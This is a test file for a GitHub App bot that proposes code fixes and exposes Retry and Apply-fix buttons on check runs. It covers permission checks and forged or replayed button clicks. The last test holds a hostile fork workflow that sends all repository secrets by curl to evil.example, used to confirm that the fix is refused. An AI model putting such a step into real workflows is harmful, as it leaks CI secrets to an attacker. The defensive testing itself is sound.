// The `autogen` check run, end to end: real webhook payloads into a real Probot, GitHub
// faked at the HTTP level (every request checked against its REST description, and the
// checks calls against GitHub's documented limits), git pushes into a local bare
// repository, pytest run for real. An issue's fix gets its check run on the bot's commit,
// a red build's on the pull request's head; the buttons Retry and Apply fix are clicked
// as `check_run.requested_action` deliveries.
import { execFileSync } from "node:child_process";
import { cp, mkdir, mkdtemp, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { deserialize, serialize } from "node:v8";
import { Probot } from "probot";
import { TestOctokit } from "../support/test-octokit.ts";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createAutogenApp } from "../../src/app/create-app.ts";
import { JobStore } from "../../src/jobs/job-store.ts";
import type { WorkerPool } from "../../src/jobs/worker-pool.ts";
import { secretScrubber } from "../../src/secrets/scrub-secrets.ts";
import { fakeActions, fakeGitHub, type FakeCheckRun, type FakeGitHubState } from "../support/fake-github.ts";
import { ciRun } from "../support/fake-actions-runner.ts";
import { fixtureCopy } from "../support/fixture-copies.ts";
import { commit, gitRepo, sh } from "../support/git-repo.ts";
import { networkGuard } from "../support/network-guard.ts";
import { testPrivateKey } from "../support/private-key.ts";
import { webhookExample } from "../support/webhook-examples.ts";

const PYTEST = 'test:\n  env:\n    PYTEST_DISABLE_PLUGIN_AUTOLOAD: "1"\n';
const CART_BROKEN = "def total(prices, discount):\n    subtotal = sum(prices)\n    return subtotal + discount\n";
const CART_OK = "def total(prices, discount):\n    subtotal = sum(prices)\n    return subtotal - discount\n";
const CART_PR = `${CART_BROKEN}\n\ndef bulk_total(orders):\n    return [total(p, d) for p, d in orders]\n`;
const TESTS =
  "from shop.cart import total\n\n\ndef test_total_applies_discount():\n    assert total([10, 20], 5) == 25\n\n\ndef test_total_without_discount():\n    assert total([1, 2], 0) == 3\n";
const ISSUE = {
  title: "Discount is added instead of subtracted",
  body: "total([10, 20], 5) gives 35, it should be 25.",
};

let root: string;
let remote: string;
let state: FakeGitHubState;
let github: ReturnType<typeof fakeGitHub>;
let store: JobStore;
const network = networkGuard();

const remoteSha = (ref: string) =>
  execFileSync("git", ["--git-dir", remote, "rev-parse", ref], { encoding: "utf8" }).trim();
const remoteFile = (ref: string, path: string) =>
  execFileSync("git", ["--git-dir", remote, "show", `${ref}:${path}`], { encoding: "utf8" });
const checkRuns = (): FakeCheckRun[] => state.ownCheckRuns ?? [];

beforeEach(async () => {
  network.start();
  root = await mkdtemp(join(tmpdir(), "autogen-checks-"));
  store = new JobStore(join(root, "jobs.db"));
});

afterEach(() => {
  const { unmatched } = network.stop();
  store.close();
  expect(github.errors, "requests that do not fit GitHub's REST description or limits").toEqual([]);
  expect(unmatched, "requests nothing answered").toEqual([]);
});

async function startApp() {
  let pool: WorkerPool | undefined;
  const probot = new Probot({
    appId: 1,
    privateKey: testPrivateKey(),
    secret: "s",
    logLevel: "fatal",
    Octokit: TestOctokit,
  });
  await probot.load(
    createAutogenApp({
      store,
      appId: 1,
      cacheRoot: join(root, "cache"),
      scrub: secretScrubber([testPrivateKey()]),
      concurrency: 1,
      perInstallation: 1,
      statusThrottleMs: 60_000,
      pollMs: 40,
      onReady: (p) => (pool = p),
    }),
  );
  return {
    probot,
    idle: async () => {
      while (pool && ((await store.queueDepth()).queued > 0 || (await store.queueDepth()).running > 0))
        await pool.idle().then(() => new Promise((r) => setTimeout(r, 20)));
    },
  };
}

const repo = (payload: Record<string, unknown>) => ({
  ...(payload.repository as object),
  name: "shop",
  full_name: "octo-org/shop",
  default_branch: "main",
  owner: { ...(payload.repository as { owner: object }).owner, login: "octo-org" },
});

function labeled() {
  const payload = webhookExample("issues", "labeled") as Record<string, unknown> & { issue: Record<string, unknown> };
  payload.repository = repo(payload);
  payload.issue = { ...payload.issue, number: 42, title: ISSUE.title, body: ISSUE.body };
  payload.label = { ...(payload.label as object), name: "autogen" };
  payload.sender = { ...(payload.sender as object), login: "maintainer", id: 7, type: "User" };
  payload.installation = { id: 99, node_id: "MDIz" };
  return payload;
}

/** A click on one of the check run's buttons (the real example payload, pointed at `run`). */
function click(
  run: { id: number; head_sha: string; external_id: string },
  identifier: string,
  sender = "maintainer",
  appId = 1,
) {
  const payload = webhookExample("check_run", "requested_action") as Record<string, unknown> & {
    check_run: Record<string, unknown>;
  };
  payload.repository = repo(payload);
  payload.check_run = {
    ...payload.check_run,
    id: run.id,
    name: "autogen",
    head_sha: run.head_sha,
    external_id: run.external_id,
    app: { ...(payload.check_run.app as object), id: appId },
  };
  payload.requested_action = { identifier };
  payload.sender = { ...(payload.sender as object), login: sender, id: 8, type: "User" };
  payload.installation = { id: 99, node_id: "MDIz" };
  return payload;
}

async function issueRepository() {
  remote = join(root, "remote.git");
  // Built once for the file, copied for each test.
  const build = async (dir: string) => {
    const work = await gitRepo({
      "shop/__init__.py": "",
      "shop/cart.py": CART_BROKEN,
      "tests/test_cart.py": TESTS,
      ".github/autogen.yml": PYTEST,
    });
    execFileSync("git", ["clone", "--quiet", "--bare", work, join(dir, "remote.git")]);
  };
  await fixtureCopy("check-runs issue", build, { "remote.git": remote });
  state = {
    issue: { ...ISSUE },
    comments: [],
    pulls: [],
    permissions: { maintainer: "write", visitor: "read" },
    files: { ".github/autogen.yml": PYTEST },
    defaultBranch: "main",
    cloneUrl: remote,
  };
  github = fakeGitHub(state);
}

/** main with a correct cart, and pull request #7 that breaks it (for a fork: only as refs/pull/7/head). */
async function redPullRequest(fork: boolean, extra: Record<string, string> = {}) {
  const config = `triggers:\n  ciFailure: auto\n${PYTEST}`;
  remote = join(root, "remote.git");
  // Built once for the file for each fixture, copied for each test.
  const build = async (dir: string) => {
    const work = await gitRepo({
      "shop/__init__.py": "",
      "shop/cart.py": CART_OK,
      "tests/test_cart.py": TESTS,
      ".github/autogen.yml": config,
    });
    const bare = join(dir, "remote.git");
    execFileSync("git", ["clone", "--quiet", "--bare", work, bare]);
    const baseSha = sh(work, "rev-parse", "HEAD");
    sh(work, "switch", "--quiet", "--create", "feature/bulk");
    await writeFile(join(work, "shop/cart.py"), CART_PR);
    for (const [path, text] of Object.entries(extra)) {
      await mkdir(join(work, path, ".."), { recursive: true });
      await writeFile(join(work, path), text);
    }
    sh(work, "add", "--all");
    commit(work, "Add bulk totals");
    const headSha = sh(work, "rev-parse", "HEAD");
    sh(work, "push", "--quiet", bare, fork ? "HEAD:refs/pull/7/head" : "feature/bulk");
    return { baseSha, headSha };
  };
  const key = JSON.stringify(["check-runs red pull request", fork, extra]);
  const { baseSha, headSha } = await fixtureCopy(key, build, { "remote.git": remote });
  state = {
    issue: { title: "unused", body: "" },
    comments: [],
    pulls: [],
    permissions: { maintainer: "write", contributor: "read" },
    files: { ".github/autogen.yml": config },
    defaultBranch: "main",
    cloneUrl: remote,
    prs: {
      7: {
        title: "Bulk totals",
        body: "Adds bulk_total.",
        state: "open",
        headRef: "feature/bulk",
        headSha,
        baseRef: "main",
        baseSha,
        fork,
      },
    },
    commitPulls: { [headSha]: [7] },
    // No verification workflow installed: verified in the local sandbox.
    actions: fakeActions([]),
  };
  github = fakeGitHub(state);
  const red = await ciRun(state.actions as NonNullable<FakeGitHubState["actions"]>, remote, {
    sha: headSha,
    branch: "feature/bulk",
    number: 7,
    fork,
  });
  const payload = webhookExample("workflow_run", "completed") as Record<string, unknown> & {
    workflow_run: Record<string, unknown>;
    workflow: Record<string, unknown>;
  };
  payload.repository = repo(payload);
  payload.workflow = { ...payload.workflow, path: ".github/workflows/ci.yml" };
  payload.workflow_run = {
    ...payload.workflow_run,
    id: red.id,
    path: ".github/workflows/ci.yml",
    event: "pull_request",
    status: "completed",
    conclusion: "failure",
    head_sha: headSha,
    head_branch: "feature/bulk",
    pull_requests: red.pull_requests.map((p) => ({
      number: p.number,
      head: { ref: "feature/bulk", sha: headSha, repo: {} },
      base: { ref: "main", sha: "0", repo: {} },
    })),
  };
  payload.sender = { ...(payload.sender as object), login: "maintainer", id: 7, type: "User" };
  payload.installation = { id: 99, node_id: "MDIz" };
  return { headSha, workflowRun: payload };
}

/**
 * A job run to its end once per test file for each flow: the first test that starts from it runs
 * it (so each test still passes alone); each later one gets a copy of where it ended (the remote,
 * the job store, GitHub's state; the App's cache is rebuilt on demand) and an App started on that
 * store, instead of the same job run again.
 */
const finishedJobs = new Map<string, Promise<{ dir: string; state: Buffer; value: unknown }>>();

async function finishedJob<T>(
  key: string,
  run: () => Promise<{ app: Awaited<ReturnType<typeof startApp>>; value: T }>,
): Promise<{ app: Awaited<ReturnType<typeof startApp>>; value: T }> {
  const saved = finishedJobs.get(key);
  if (!saved) {
    const ran = run();
    const snapshot = ran.then(async ({ value }) => {
      const dir = await mkdtemp(join(tmpdir(), "autogen-finished-job-"));
      await cp(remote, join(dir, "remote.git"), { recursive: true, verbatimSymlinks: true });
      const db = new DatabaseSync(join(root, "jobs.db"));
      db.prepare("VACUUM INTO ?").run(join(dir, "jobs.db"));
      db.close();
      return { dir, state: serialize(state), value };
    });
    finishedJobs.set(key, snapshot);
    snapshot.catch(() => finishedJobs.delete(key));
    await snapshot;
    return ran;
  }
  const { dir, state: copied, value } = await saved;
  remote = join(root, "remote.git");
  await cp(join(dir, "remote.git"), remote, { recursive: true, verbatimSymlinks: true });
  await cp(join(dir, "jobs.db"), join(root, "finished-jobs.db"));
  await store.close();
  store = new JobStore(join(root, "finished-jobs.db"));
  state = deserialize(copied) as FakeGitHubState;
  state.cloneUrl = remote;
  github = fakeGitHub(state);
  return { app: await startApp(), value: value as T };
}

/** The issue labelled by a maintainer, its job run to the end. */
const labelledIssueDone = () =>
  finishedJob("labelled issue", async () => {
    await issueRepository();
    const app = await startApp();
    await app.probot.receive({ id: "label-1", name: "issues", payload: labeled() } as never);
    await app.idle();
    return { app, value: undefined };
  });

/** A fork's red build, its job run to the end (the fix offered as a patch). */
const forkRedBuildDone = () =>
  finishedJob("fork red build", async () => {
    const { headSha, workflowRun } = await redPullRequest(true);
    const app = await startApp();
    await app.probot.receive({ id: "red-fork", name: "workflow_run", payload: workflowRun } as never);
    await app.idle();
    return { app, value: headSha };
  });

/** What GitHub was asked to change since request `since` (minting an installation token changes nothing). */
const writesSince = (since: number) =>
  github.requests
    .slice(since)
    .filter((r) => r.method !== "GET" && r.operation !== "apps/create-installation-access-token")
    .map((r) => `${r.method} ${r.path}`);

const operationIndex = (
  operation: string,
  predicate: (body: Record<string, unknown> | undefined) => boolean = () => true,
) => github.requests.findIndex((r) => r.operation === operation && predicate(r.body));

describe("the autogen check run", { timeout: 300_000 }, () => {
  it("an issue's fix: in progress on the bot's commit before the PR opens, then neutral (passes the tests; not reviewed) with the report and annotations; Retry by a reader does nothing, by a maintainer queues the job again", async () => {
    const {
      app: { probot, idle },
    } = await labelledIssueDone();

    const job = await store.latest("octo-org", "shop", 42);
    expect(job?.state).toBe("done");
    expect(checkRuns()).toHaveLength(1);
    const run = checkRuns()[0] as FakeCheckRun;
    expect(run).toMatchObject({
      name: "autogen",
      head_sha: remoteSha("autogen/issue-42"),
      external_id: String(job?.id),
      status: "completed",
      // Model-free: the template's fix passes the tests but no one reviewed it (issue 31).
      conclusion: "neutral",
    });
    expect(run.output.title).toMatch(/^Passes the tests; not reviewed: /);
    // Created in progress once the commit existed, before the pull request; completed at the end.
    expect(run.history[0]).toBe("in_progress");
    expect(run.history.at(-1)).toBe("completed");
    const created = operationIndex("checks/create");
    expect(created).toBeGreaterThan(-1);
    expect(created).toBeLessThan(operationIndex("pulls/create"));
    expect(github.calls("checks/create")[0]?.body).toMatchObject({
      status: "in_progress",
      head_sha: remoteSha("autogen/issue-42"),
    });
    // The summary: the checklist, the final word and the report.
    // Model-free: a template fix on the tests' word only, said so in the title.
    expect(run.output.title).toMatch(/^Passes the tests; not reviewed: /);
    expect(run.output.summary).toContain("✅ Regression gate");
    expect(run.output.summary).toContain(`Opened https://github.com/o/r/pull/${state.pulls[0]?.number}`);
    expect(run.output.summary).toContain("<summary>Report</summary>");
    expect(run.output.summary).toContain("Regression gate (full suite)");
    // On the changed line (the new side: this commit holds the fix) and on the failure it explains.
    expect(remoteFile("autogen/issue-42", "shop/cart.py").split("\n")[2]).toBe("    return subtotal - discount");
    expect(run.annotations).toContainEqual(
      expect.objectContaining({ path: "shop/cart.py", start_line: 3, end_line: 3, annotation_level: "notice" }),
    );
    const failure = run.annotations.find((a) => a.annotation_level === "failure");
    expect(failure).toMatchObject({
      path: "tests/test_cart.py",
      title: "Failing: tests/test_cart.py::test_total_applies_discount",
    });
    expect(failure?.message).toContain("autogen's change makes it pass again");
    expect(run.actions).toEqual([{ label: "Retry", description: "Run this autogen job again", identifier: "retry" }]);

    // A reader's click: refused by the gate, no job.
    const ref = { id: run.id, head_sha: run.head_sha, external_id: run.external_id };
    await probot.receive({ id: "click-reader", name: "check_run", payload: click(ref, "retry", "visitor") } as never);
    expect(await store.countJobs("octo-org", "shop", 42, "fix")).toBe(1);
    expect(github.calls("repos/get-collaborator-permission-level").at(-1)?.path).toBe(
      "/repos/octo-org/shop/collaborators/visitor/permission",
    );
    // A maintainer's: the same kind of job again, from that delivery, with the issue as it is now.
    await probot.receive({ id: "click-maintainer", name: "check_run", payload: click(ref, "retry") } as never);
    const again = await store.latest("octo-org", "shop", 42);
    expect(again?.id).not.toBe(job?.id);
    expect(again).toMatchObject({
      kind: "fix",
      deliveryId: "click-maintainer",
      requester: "maintainer",
      snapshot: ISSUE,
    });
    // Redelivered: nothing more.
    await probot.receive({ id: "click-maintainer", name: "check_run", payload: click(ref, "retry") } as never);
    expect(await store.countJobs("octo-org", "shop", 42, "fix")).toBe(2);
    await idle();
    expect((await store.get(again?.id ?? 0))?.state).toBe("done");
  });

  it("a click on a check run this App did not create is ignored", async () => {
    const {
      app: { probot },
    } = await labelledIssueDone();
    const run = checkRuns()[0] as FakeCheckRun;
    const before = github.requests.length;
    // Another App's run with our job's external id, and one of ours whose id is not the job's run.
    await probot.receive({
      id: "click-other-app",
      name: "check_run",
      payload: click({ id: run.id, head_sha: run.head_sha, external_id: run.external_id }, "retry", "maintainer", 4242),
    } as never);
    await probot.receive({
      id: "click-other-run",
      name: "check_run",
      payload: click({ id: run.id + 1, head_sha: run.head_sha, external_id: run.external_id }, "retry"),
    } as never);
    expect(await store.countJobs("octo-org", "shop", 42, "fix")).toBe(1);
    expect(github.requests.slice(before)).toEqual([]);
  });

  it("GitHub failing the checks calls does not fail the job: the PR is opened all the same", async () => {
    await issueRepository();
    state.fault = (operation) => (operation.startsWith("checks/") ? 502 : undefined);
    const { probot, idle } = await startApp();
    await probot.receive({ id: "label-3", name: "issues", payload: labeled() } as never);
    await idle();
    expect(github.calls("checks/create").length).toBeGreaterThan(0);
    expect((await store.latest("octo-org", "shop", 42))?.state).toBe("done");
    expect(state.pulls).toHaveLength(1);
    expect(state.comments[0]?.body).toContain(`Opened https://github.com/o/r/pull/${state.pulls[0]?.number}`);
  });

  it("a red build: in progress on the PR head from the start, then neutral (not reviewed) with annotations on the lines the fix changes and on the failure the PR caused", async () => {
    const { headSha, workflowRun } = await redPullRequest(false);
    const { probot, idle } = await startApp();
    await probot.receive({ id: "red-1", name: "workflow_run", payload: workflowRun } as never);
    await idle();
    expect(checkRuns()).toHaveLength(1);
    const run = checkRuns()[0] as FakeCheckRun;
    expect(run).toMatchObject({ head_sha: headSha, status: "completed", conclusion: "neutral" });
    expect(run.history[0]).toBe("in_progress");
    // Right at the start: before the evidence is read from CI.
    expect(operationIndex("checks/create")).toBeLessThan(operationIndex("actions/list-jobs-for-workflow-run"));
    expect(run.output.summary).toContain("✅ Attribution: 1 caused by the change");
    // The old side: this commit is the one the fix applies to.
    expect(remoteFile(headSha, "shop/cart.py").split("\n")[2]).toBe("    return subtotal + discount");
    expect(run.annotations).toContainEqual(
      expect.objectContaining({
        path: "shop/cart.py",
        start_line: 3,
        end_line: 3,
        annotation_level: "notice",
        title: "autogen's fix changes these lines",
      }),
    );
    const failure = run.annotations.find((a) => a.annotation_level === "failure");
    expect(failure).toMatchObject({
      path: "tests/test_cart.py",
      title: "Broken by this pull request: tests/test_cart.py::test_total_applies_discount",
    });
    expect(failure?.start_line).toBe(5);
    expect(run.actions.map((a) => a.identifier)).toEqual(["retry"]);
  });

  it("a fork's patch: Apply fix by a reader does nothing; by a maintainer opens exactly one PR from a bot branch off the fork's head, and a second click opens nothing", async () => {
    const {
      app: { probot },
      value: headSha,
    } = await forkRedBuildDone();
    const run = checkRuns()[0] as FakeCheckRun;
    expect(run).toMatchObject({ head_sha: headSha, conclusion: "neutral" });
    expect(run.output.title).toBe("Passes the tests; not reviewed: Apply fix opens a draft pull request with it");
    expect(run.actions.map((a) => a.identifier)).toEqual(["retry", "apply"]);
    expect(state.pulls).toEqual([]);
    const ref = { id: run.id, head_sha: run.head_sha, external_id: run.external_id };

    await probot.receive({
      id: "apply-reader",
      name: "check_run",
      payload: click(ref, "apply", "contributor"),
    } as never);
    expect(state.pulls).toEqual([]);

    await probot.receive({ id: "apply-1", name: "check_run", payload: click(ref, "apply") } as never);
    const branch = `autogen/fix-7-${headSha.slice(0, 7)}`;
    expect(state.pulls).toHaveLength(1);
    // Not reviewed (model-free): the PR is a draft, and its body says a reviewer is needed.
    expect(state.pulls[0]).toMatchObject({ head: branch, base: "main", draft: true });
    expect(state.pulls[0]?.body).toContain("Applies autogen's fix for the red build of #7");
    expect(state.pulls[0]?.body).toContain("Needs a reviewer: passes the tests; not reviewed.");
    // The fork's commit plus the fix, from the job's checkpointed diff.
    expect(remoteSha(`${branch}^`)).toBe(headSha);
    expect(remoteFile(branch, "shop/cart.py")).toContain("return subtotal - discount");
    expect(remoteFile(branch, "shop/cart.py")).toContain("def bulk_total");
    expect(run.output.title).toMatch(/^Fix applied: https:\/\/github.com\/o\/r\/pull\/\d+$/);
    expect(run.actions.map((a) => a.identifier)).toEqual(["retry"]);
    const annotations = run.annotations.length;

    await probot.receive({ id: "apply-2", name: "check_run", payload: click(ref, "apply") } as never);
    expect(state.pulls).toHaveLength(1);
    expect(github.calls("pulls/create")).toHaveLength(1);
    // The update after applying sent no annotations again.
    expect(run.annotations).toHaveLength(annotations);
  });

  it("forged clicks on a fork's check run: another App's run, another repository, another installation, a job of another repository, bad external ids, unknown actions, a reader, a bot, a moved head; then a replayed Apply fix: none writes anything to GitHub", async () => {
    const {
      app: { probot },
      value: headSha,
    } = await forkRedBuildDone();
    const run = checkRuns()[0] as FakeCheckRun;
    expect(run.actions.map((a) => a.identifier)).toEqual(["retry", "apply"]);
    const job = (await store.latest("octo-org", "shop", 7)) as NonNullable<Awaited<ReturnType<typeof store.latest>>>;
    const ref = { id: run.id, head_sha: run.head_sha, external_id: run.external_id };
    // The same job, as if it were another repository's (the same check run recorded): its id is a valid external id elsewhere.
    const copied = await store.enqueue({ ...job, deliveryId: "other-repo-job", repo: "other", checkpoint: undefined });
    if (!copied.queued) throw new Error("the other repository's job was not stored");
    await store.checkpoint(copied.job.id, job.checkpoint);
    await store.finish(copied.job.id, "done");
    const jobsBefore = await store.countJobs("octo-org", "shop", 7, "ci");

    let n = 0;
    const forged = async (payload: Record<string, unknown>) => {
      const before = github.requests.length;
      await probot.receive({ id: `forged-${++n}`, name: "check_run", payload } as never);
      return writesSince(before);
    };
    const clickWith = (
      change: (p: Record<string, unknown> & { check_run: Record<string, unknown> }) => void,
      identifier = "apply",
      sender = "maintainer",
    ) => {
      const payload = click(ref, identifier, sender);
      change(payload);
      return payload;
    };
    const attacks: Array<[string, Record<string, unknown>]> = [
      ["another App's check run", click(ref, "apply", "maintainer", 4242)],
      ["no app on the check run", clickWith((p) => (p.check_run.app = null))],
      ["another check run name", clickWith((p) => (p.check_run.name = "autogen-ci"))],
      ["another check run of ours", click({ ...ref, id: ref.id + 1 }, "apply")],
      ["another commit", click({ ...ref, head_sha: "f".repeat(40) }, "apply")],
      [
        "the click from another repository",
        clickWith((p) => (p.repository = { ...(p.repository as object), name: "other", full_name: "octo-org/other" })),
      ],
      [
        "the click from another owner",
        clickWith(
          (p) =>
            (p.repository = {
              ...(p.repository as object),
              full_name: "evil/shop",
              owner: { ...(p.repository as { owner: object }).owner, login: "evil" },
            }),
        ),
      ],
      ["the click from another installation", clickWith((p) => (p.installation = { id: 100, node_id: "MDIz" }))],
      ["the click with no installation", clickWith((p) => delete p.installation)],
      [
        "an external id naming another repository's job",
        click({ ...ref, external_id: String(copied.job.id) }, "apply"),
      ],
      ...[
        "",
        "abc",
        ` ${ref.external_id}`,
        `${ref.external_id} `,
        `${ref.external_id}/../1`,
        `0x${Number(ref.external_id).toString(16)}`,
        `${ref.external_id}.0`,
        "-1",
        "1e3",
        "9".repeat(13),
        "999999",
      ].map((id): [string, Record<string, unknown>] => [
        `external id ${JSON.stringify(id)}`,
        click({ ...ref, external_id: id }, "apply"),
      ]),
      ["a null external id", clickWith((p) => (p.check_run.external_id = null))],
      ...["Apply", "apply ", "apply\n", "merge", "", "retry;apply", "__proto__", "constructor"].map(
        (id): [string, Record<string, unknown>] => [`identifier ${JSON.stringify(id)}`, click(ref, id)],
      ),
      ["no requested action", clickWith((p) => delete p.requested_action)],
      ["Apply fix by a reader", click(ref, "apply", "contributor")],
      ["Apply fix by a stranger", click(ref, "apply", "nobody")],
      ["Retry by a reader", click(ref, "retry", "contributor")],
      [
        "Apply fix by a bot with write access",
        clickWith((p) => (p.sender = { ...(p.sender as object), login: "maintainer", type: "Bot" })),
      ],
    ];
    for (const [what, payload] of attacks) expect(await forged(payload), what).toEqual([]);
    expect(state.pulls).toEqual([]);
    expect(await store.countJobs("octo-org", "shop", 7, "ci")).toBe(jobsBefore);
    const branch = `autogen/fix-7-${headSha.slice(0, 7)}`;
    expect(
      execFileSync("git", ["--git-dir", remote, "for-each-ref", "--format=%(refname)", `refs/heads/${branch}`], {
        encoding: "utf8",
      }),
    ).toBe("");

    // The pull request's head moved since the fix was found: refused, nothing written.
    const pr = state.prs?.[7];
    if (!pr) throw new Error("no PR 7");
    pr.headSha = "e".repeat(40);
    expect(await forged(click(ref, "apply")), "Apply fix after the head moved").toEqual([]);
    pr.headSha = headSha;

    // The real click opens one PR; every later click (a replay, a double click) writes nothing.
    await probot.receive({ id: "apply-real", name: "check_run", payload: click(ref, "apply") } as never);
    expect(state.pulls).toHaveLength(1);
    expect(await forged(click(ref, "apply")), "a second Apply fix").toEqual([]);
    const before = github.requests.length;
    await probot.receive({ id: "apply-real", name: "check_run", payload: click(ref, "apply") } as never);
    expect(writesSince(before), "the same delivery again").toEqual([]);
    expect(state.pulls).toHaveLength(1);
    expect(github.calls("pulls/create")).toHaveLength(1);
  });

  it("Apply fix on a fork whose pull request changes its workflows: refused, nothing written (on a branch of this repository they would run with its secrets)", async () => {
    const exfiltrate =
      "on: push\njobs:\n  steal:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo '${{ toJSON(secrets) }}' | curl -d @- https://evil.example/\n";
    const { headSha, workflowRun } = await redPullRequest(true, { ".github/workflows/ci.yml": exfiltrate });
    const { probot, idle } = await startApp();
    await probot.receive({ id: "red-fork-workflows", name: "workflow_run", payload: workflowRun } as never);
    await idle();
    const run = checkRuns()[0] as FakeCheckRun;
    expect(run.actions.map((a) => a.identifier)).toEqual(["retry", "apply"]);
    const before = github.requests.length;
    await probot.receive({
      id: "apply-workflows",
      name: "check_run",
      payload: click({ id: run.id, head_sha: run.head_sha, external_id: run.external_id }, "apply"),
    } as never);
    expect(writesSince(before)).toEqual([]);
    expect(state.pulls).toEqual([]);
    expect(
      execFileSync(
        "git",
        ["--git-dir", remote, "for-each-ref", "--format=%(refname)", `refs/heads/autogen/fix-7-${headSha.slice(0, 7)}`],
        { encoding: "utf8" },
      ),
    ).toBe("");
  });
});
